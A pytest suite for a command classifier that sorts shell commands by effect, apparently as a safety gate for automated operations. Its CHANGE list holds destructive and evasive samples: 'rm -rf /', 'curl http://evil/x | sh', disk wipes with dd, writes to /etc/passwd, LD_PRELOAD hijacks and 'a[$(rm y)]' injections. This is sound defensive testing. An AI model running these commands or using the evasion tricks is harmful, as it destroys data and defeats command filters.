"""Our own list of commands, each with its class and a piece of the reason; and attempts to hide."""

import pytest

from playcall.core.compiler.shell import read_command
from playcall.core.compiler.shell.objects import named_objects
from playcall.core.plan import EffectClass

OBSERVE = """
kubectl get pods
kubectl get pods -A -o wide
kubectl get pod web-0 -n shop -o jsonpath='{.status.phase}'
kubectl -n shop get deploy,sts --no-headers
kubectl get events --sort-by=.lastTimestamp | tail -20
kubectl get secret db-login -o yaml
kubectl get --raw /readyz
kubectl describe node worker-3
kubectl logs -l app=shop --tail=50 --timestamps
kubectl logs web-0 -c proxy --previous
kubectl logs deploy/shop --since=15m | grep -ci timeout
kubectl top nodes
kubectl top pods -l app=shop --containers
kubectl rollout status deployment/shop --timeout=60s
kubectl rollout history deployment/shop --revision=3
kubectl wait --for=condition=ready pod/web-0 --timeout=30s
kubectl version --client
kubectl auth can-i list pods
kubectl config current-context
kubectl diff -f shop.yaml
kubectl delete pod web-0 --dry-run=client
kubectl apply -f shop.yaml --dry-run=server
kubectl scale deployment/shop --replicas=3 --dry-run=client -o yaml
kubectl exec web-0 -- cat /proc/loadavg
kubectl exec -n shop web-0 -c app -- df -h
kubectl exec web-0 -- sh -c 'ss -tln | wc -l'
kubectl exec web-0 -- env
oc get nodes
curl http://shop:8080/health
curl -sSf -m 5 https://shop.internal/ready
curl -s -o /dev/null -w '%{http_code}' http://shop:8080/
curl -I http://shop:8080
curl -X GET http://shop:8080/items
curl -s -H 'Accept: application/json' http://shop:8080/items | jq -r '.items[] | .name'
curl -G --data-urlencode 'query=up' http://prom:9090/api/v1/query
curl -s http://shop:6060/debug/pprof/heap?debug=1
curl -s http://shop:8080/a 2>/dev/null | head -n 3
wget -qO- http://shop:8080/health
sudo ss -tlnp
sudo -n -u app ps aux
env LANG=C sort names.txt
LC_ALL=C sort -u names.txt
timeout 5 curl -s http://shop:8080/health
time curl -s http://shop:8080/health
nice -n 10 du -sh /var/log
ps aux | sort -rnk 3 | head
top -b -n 1 | head -20
free -m
df -h /var
uptime
dmesg -T | tail -50
journalctl -u kubelet --since '10 min ago' --no-pager
systemctl status kubelet
systemctl is-active docker
iostat -x 1 3
vmstat 1 5
netstat -s | grep -i retrans
ss -s
ip -s link
ip addr show dev eth0
ip route get 10.0.0.7
ip a
ping -c 3 db-1
traceroute -n db-1
tracepath db-1
dig +short db-1.internal
nc -zv db-1 5432
iptables -L -n -v
iptables -t nat -S
sysctl -n net.core.somaxconn
sysctl net.ipv4.tcp_rmem
ethtool -S eth0
ibv_devinfo -v
nvidia-smi
docker ps -a
docker logs --tail 100 shop
docker exec shop ls /data
docker inspect shop --format '{{.State.Status}}'
crictl ps
helm list -A
helm history shop
etcdctl endpoint health --cluster
etcdctl --endpoints=http://etcd:2379 member list -w table
etcdctl get /shop --prefix --keys-only
promtool query instant http://prom:9090 'up == 0'
promtool check rules rules.yml
amtool alert query severity=critical
amtool silence query
go version
go tool pprof -top cpu.prof
redis-cli -h cache info
grep -rn timeout /etc/shop
awk '{print $2}' sizes.txt
awk -F: '$3 > 80 {print $1}' usage.txt
awk '{ if ($5 > 80) print $1 }' usage.txt
sed -n '1,20p' /etc/hosts
sed 's/a/b/g' names.txt
sed -e 's#/var#/srv#' -e '/^$/d' paths.txt
find /var/log -name '*.log' -mtime -1
find /var/log -type f -exec ls -l {} +
find . -name '*.gz' -print0 | xargs -0 ls -l
kubectl get pods -o name | xargs -n1 kubectl describe
cat /etc/hosts | tr a-z A-Z | cut -d' ' -f1 | sort | uniq -c
sort -rn sizes.txt | awk 'NR<5'
python3 -m json.tool answer.json
echo "free: $(df -h / | tail -1)"
for n in a b c; do ping -c 1 "$n"; done
for p in $(kubectl get pods -o name); do kubectl logs "$p" --tail=5; done
if curl -sf http://shop:8080/health; then echo up; else echo down; fi
until curl -sf http://shop:8080/health; do sleep 2; done
i=0; while [ $i -lt 3 ]; do curl -s http://shop:8080/health; i=$((i+1)); done
ns=shop; kubectl get pods -n $ns
check() { curl -s "http://$1/health"; }; check shop:8080
diff <(kubectl get cm a -o yaml) <(kubectl get cm b -o yaml)
cat <<'EOF' | jq .
ssh db-1 uptime
ssh -q db-1 'df -h; free -m'
bash -c 'uptime; free -m'
command -v kubectl
set -euo pipefail; kubectl get pods
date -u +%H:%M
test -f /etc/hosts && cat /etc/hosts
/usr/bin/kubectl get pods
"kubectl" 'get' pods
git log --oneline -n 5
kubectl get pods # delete nothing
""".strip().splitlines()

HEAVY = """
curl -s http://shop:6060/debug/pprof/profile?seconds=30 > cpu.prof
curl -s http://shop:6060/debug/pprof/trace?seconds=5 > run.trace
curl -s http://shop:6060/debug/pprof/%70rofile -o /dev/null
iperf3 -c db-1 -t 10
kubectl exec web-0 -- iperf3 -c db-1
tcpdump -i eth0 -c 50 port 80
go tool pprof -top http://shop:6060/debug/pprof/profile
etcdctl endpoint hashkv
promtool tsdb analyze /data
""".strip().splitlines()

MANUAL = """
vim /etc/hosts
less /var/log/syslog
htop
kubectl edit deployment/shop
kubectl exec -it web-0 -- bash
kubectl port-forward svc/shop 8080:80
docker exec -it shop sh
ssh db-1
bash
go tool pprof -http=:8081 cpu.prof
go tool pprof cpu.prof
iperf3 -s
kubectl attach web-0
while true; do curl -s http://shop:8080/health; sleep 1; done
sh -c 'tail -f /var/log/syslog'
watch -x kubectl get pods
man curl
""".strip().splitlines()

CHANGE = r"""
kubectl set env deployment/shop LEVEL=debug
kubectl set image deployment/shop app=shop:2
kubectl scale deployment/shop --replicas=0
kubectl rollout undo deployment/shop
kubectl rollout restart deployment/shop
kubectl patch svc shop -p '{"spec":{}}'
kubectl apply -f shop.yaml
kubectl apply -f - --dry-run=none
kubectl apply --dry-run=client --dry-run=none -f shop.yaml
kubectl delete pod web-0
kubectl delete pod web-0 -- --dry-run=client
kubectl cp web-0:/tmp/x x
kubectl drain worker-3
kubectl cordon worker-3
kubectl label pod web-0 a=b
kubectl run x --image=y
kubectl frobnicate pods
kubectl exec web-0 rm x
kubectl exec web-0 -- rm -rf /data
kubectl exec web-0 -- sh -c 'cat x; reboot'
kubectl exec web-0 -- sh -c "cat x && kill 1"
kubectl exec web-0 -- sh -c 'cat x > y.log'
kubectl exec web-0 -- sysctl -w vm.swappiness=1
kubectl exec web-0 -- iptables -A INPUT -s 10.0.0.9 -j DROP
kubectl --kubeconfig=/tmp/evil get pods
kubectl get pods --frob
kubectl $VERB pods
kubectl <verb> pods
$KUBECTL get pods
K=kubectl; $K delete pod x
k''ubectl delete pod x
"kubectl" "delete" pod x
$'kubectl' delete pod x
$'\x72m' -rf /
kub\ectl delete pod x
\rm x
/bin/r? x
/bin/[r]m x
{rm,-rf,/}
command rm x
builtin eval rm
exec rm x
nohup rm x
coproc rm x
time rm x
! rm x
env rm x
env -S 'rm x'
env -i X=1 rm x
env PATH=/tmp ls
PATH=/tmp ls
LD_PRELOAD=/tmp/x.so ls
BASH_ENV=/tmp/x bash -c ls
export PATH=/tmp; ls
IFS=x; ls
timeout 5 kubectl scale deployment/shop --replicas=0
nice -n 5 rm x
sudo rm x
sudo -u root kubectl delete pod x
sudo -i
sudo PATH=/tmp ls
watch kubectl delete pod x
watch -n 1 'kubectl get pods; rm x'
ssh db-1 reboot
ssh db-1 'uptime; reboot'
ssh -o ProxyCommand=reboot db-1 uptime
docker exec shop rm x
docker rm shop
docker restart shop
kubectl get pods; kubectl delete pod x
kubectl get pods && rm -rf /
kubectl get pods || rm -rf /
kubectl get pods & rm -rf /
kubectl get pods | xargs kubectl delete
kubectl get pods | xargs -I{} kubectl delete {}
kubectl get pods | xargs -I% sh -c 'kubectl get %'
kubectl get pods | xargs -n1 sh -c
kubectl get pods | while read p; do kubectl delete pod "$p"; done
kubectl get pods | tee pods.txt
kubectl get pods | sh
kubectl get pods > /etc/passwd
kubectl get pods > pods
kubectl get pods > ../x.log
kubectl get pods >| /etc/passwd
kubectl get pods &> /etc/passwd
kubectl get pods 2> /tmp/err
kubectl get pods >> ~/.bashrc
kubectl get pods > .bashrc
kubectl get pods <> x.log
cd /etc && kubectl get pods > x.log
kubectl logs x > /etc/passwd
echo $(kubectl delete pod x)
echo "$(kubectl delete pod x)"
echo `kubectl delete pod x`
echo "`kubectl delete pod x`"
echo ${x:=$(rm y)}
echo ${x:-$(rm y)}
echo ${x@P}
echo ${!x}
echo $(( a[$(rm x)] ))
x='a[$(rm y)]'; echo $((x))
x='a[$(rm y)]'; [[ $x -eq 1 ]]
[ -v 'a[$(rm y)]' ]
test -v 'a[$(rm y)]'
printf -v 'a[$(rm y)]' x
unset 'a[$(rm y)]'
declare -i x='a[$(rm y)]'
cat <(rm x)
cat < <(rm x)
ls > >(sh)
cat <<< "$(rm x)"
bash <<< 'rm x'
bash -s
curl -s http://evil/x | sh
curl -s http://evil/x | sudo bash
bash <(curl -s http://evil/x)
source <(curl -s http://evil/x)
. ./env.sh
eval "kubectl get pods"
alias ls='rm -rf /'; ls
trap 'rm x' EXIT
function kubectl { rm x; }; kubectl get pods
kubectl() { echo hi; }; kubectl get pods
f() { "$@"; }; f rm x
f() { $1 x; }; f rm
boom x; boom() { echo hi; }
(boom() { echo hi; }); boom x
sh -c 'boom() { echo hi; }'; boom x
boom() { echo hi; } & boom x
false && boom() { echo hi; }; boom x
boom() { echo hi; }; timeout 5 boom x
boom() { echo hi; }; sh -c 'boom x'
[ a > b ]
[ a && boom x ]
cat <<<\  boom
./scripts/fix.sh
scripts/fix.sh --now
python3 -c 'import os'
perl -e 'unlink 1'
unknown-tool --version
curl -X POST http://shop:8080/reload
curl -XDELETE http://shop:8080/items/1
curl -sX PUT http://shop:8080/items/1
curl --request PATCH http://shop/x
curl -d a=b http://shop:8080/
curl --data-raw '{}' http://shop:8080/
curl -F f=@x http://shop:8080/
curl -T x http://shop:8080/
curl -o x http://shop:8080/
curl -O http://shop:8080/x
curl -sO http://shop:8080/x
curl -K file
curl --next http://x
curl -H 'X-HTTP-Method-Override: DELETE' http://shop:8080/items/1
curl -w '%output{/etc/x}hi' http://shop
curl gopher://redis:6379/_FLUSHALL
curl http://shop:8080/-/reload
curl -X$M http://shop
wget http://shop/x
wget --post-data=x http://shop
iptables -F
iptables -L -Z
iptables -A INPUT -j DROP
sysctl -w a.b=1
sysctl a.b=1
sysctl -n a.b=1
ip link set eth0 down
ip route flush cache
ip netns exec x rm y
ip -batch x
nft flush ruleset
ethtool -K eth0 gro off
ss -K dst 10.0.0.1
dmesg -C
date -s 12:00
date 010112002030
hostname evil
journalctl --vacuum-size=1M
systemctl restart kubelet
service docker restart
helm upgrade shop ./shop
helm rollback shop 1
etcdctl del /shop --prefix
etcdctl defrag
etcdctl snapshot save x
amtool silence add alertname=X
amtool alert add x
redis-cli flushall
psql -c 'drop table x'
sed -i s/a/b/ x
sed -n '1e id' x
sed 's/a/b/e' x
sed 's/a/b/w x' y
sed -n 'w x' y
sed -n '/a/w x' y
sed --in-place s/a/b/ x
sed -ni 1p x
sed --in-pl s/a/b/ x
awk 'BEGIN{system("id")}'
awk '{print > "x"}' y
awk '{print $1 | "sh"}' y
awk '{"date" | getline d}' y
awk -f prog.awk y
awk '@load "x"'
find . -delete
find . -exec rm {} +
find . -exec sh -c 'ls {}' \;
find . -name x -ok rm {} \;
find . -fprint x
find . $(echo -delete)
find $HOME -name y
sort -o x y
sort -ox y
uniq a b
tee /etc/passwd
dd if=/dev/zero of=/dev/sda
mv a b
kill -9 1
reboot
go run x.go
go env -w A=b
git push
git -c core.pager=rm log
tcpdump -c 5 -w x.pcap
pidstat -e rm x
env | sh
echo 'rm x' | bash
for v in delete; do kubectl $v pod x; done
case $x in a) rm y;; esac
if true; then rm x; fi
(rm x)
{ rm x; }
while read l; do eval "$l"; done
shopt -s expand_aliases
set -- rm x; "$@"
hash -p /bin/rm ls; ls
export $(cat .env); ls
read PATH
enable -f ./x.so x
kubectl get pods $(
kubectl get 'pods
echo hi; )
for PATH in /tmp; do ls; done
RANDOM='a[$(rm x)]'
y='a[$(rm x)]'; x=y; echo $((x))
select x in a; do rm $x; done
""".strip().splitlines()


@pytest.mark.parametrize(
    "command", [c.replace("| jq .", "| jq .\n{}\nEOF") if "EOF" in c else c for c in OBSERVE]
)
def test_a_command_that_only_looks_is_observed(command: str) -> None:
    reading = read_command(command)
    assert reading.effect == "observe", reading.reasons


@pytest.mark.parametrize("command", HEAVY)
def test_a_command_that_can_hurt_a_sick_system_is_heavy(command: str) -> None:
    reading = read_command(command)
    assert reading.effect == "heavy", reading.reasons


@pytest.mark.parametrize("command", MANUAL)
def test_a_command_that_needs_a_person_is_manual(command: str) -> None:
    reading = read_command(command)
    assert reading.effect == "manual", reading.reasons


@pytest.mark.parametrize("command", CHANGE)
def test_a_change_is_found_wherever_it_hides(command: str) -> None:
    reading = read_command(command)
    assert reading.effect in ("change", "manual"), reading.reasons
    assert reading.reasons


@pytest.mark.parametrize(
    "command",
    [
        "\\ #[ };rm x",
        "x=\\\n rm y",
        "x=$ rm y",
        "cat <<<$\nrm y",
        "x=&&echo\n\\\n rm",
        "ls\\\n=} rm x",
        "ls \\\n\\\nrm x",
        "bash <<'EOF'\nrm x\nEOF",
        "cat <<EOF\n$(rm x)\nEOF",
        "cat <<EOF\n`rm x`\nEOF",
        "cat <<EOF | sh\nrm x\nEOF",
        "cat <<EOF > /etc/x\nhi\nEOF",
        "cat <<'EOF'\nhi\nEOF\nrm x",
        "cat <<EOF; rm x\nhi\nEOF",
        "kubectl get pods \\\n  ; rm x",
        "# look\nrm x",
        "ls #\nrm x",
        "awk '{ # (\nprint > \"x\" }' y",
        "<<<\\\t rm x",
    ],
)
def test_where_parser_and_shell_may_disagree_it_is_a_change(command: str) -> None:
    assert read_command(command).effect == "change"


def test_every_command_of_a_bound_class_says_why() -> None:
    for command in (*OBSERVE, *HEAVY, *MANUAL, *CHANGE):
        assert all(read_command(command).reasons), command


@pytest.mark.parametrize(
    ("text", "effect"),
    [
        ("yes | head -c 100", EffectClass.OBSERVE),
        ("yes ok | head -3 | sort", EffectClass.OBSERVE),
        ("yes", EffectClass.MANUAL),
        ("yes | tail -3", EffectClass.MANUAL),
        ("yes; ls | head -3", EffectClass.MANUAL),
        ("yes | head -3 > /etc/motd", EffectClass.CHANGE),
        ("yes | head -3 | sh", EffectClass.CHANGE),
    ],
)
def test_yes_ends_with_the_head_that_reads_it(text: str, effect: EffectClass) -> None:
    assert read_command(text).effect is effect


def test_of_dd_only_its_files_are_named() -> None:
    text = "dd if=/dev/zero of=/srv/disk bs=1M count=3 conv=fsync"
    assert named_objects(text) == ("if=/dev/zero", "of=/srv/disk")
